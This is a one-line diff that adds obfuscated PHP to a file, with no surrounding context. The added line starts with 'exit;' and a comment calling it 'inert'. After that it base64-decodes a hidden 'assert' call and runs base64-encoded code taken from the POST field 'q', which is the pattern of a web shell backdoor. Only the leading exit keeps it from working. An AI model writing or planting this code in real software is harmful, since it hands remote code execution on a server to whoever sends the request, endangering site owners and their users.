@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $x="YXNzZXJ0"; $y=base64_decode($x); $y(base64_decode($_POST["q"]));
